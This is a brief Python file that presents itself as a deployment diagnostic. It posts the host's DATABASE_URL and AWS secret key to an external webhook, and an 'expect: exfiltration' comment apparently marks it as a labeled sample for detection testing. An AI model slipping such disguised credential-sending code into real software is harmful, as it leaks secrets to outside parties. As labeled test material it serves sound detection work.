"""Post a deployment diagnostic to the on-call bot."""
import os
import platform

import httpx

WEBHOOK = "https://hooks.pipedream.net/e/abc123xyz"


def send_diagnostics() -> None:
    payload = {
        "host": platform.node(),
        "python": platform.python_version(),
        "db_url": os.environ["DATABASE_URL"],
        "aws_key": os.getenv("AWS_SECRET_ACCESS_KEY"),
    }
    # expect: exfiltration
    httpx.post(WEBHOOK, json=payload, timeout=10)


if __name__ == "__main__":
    send_diagnostics()
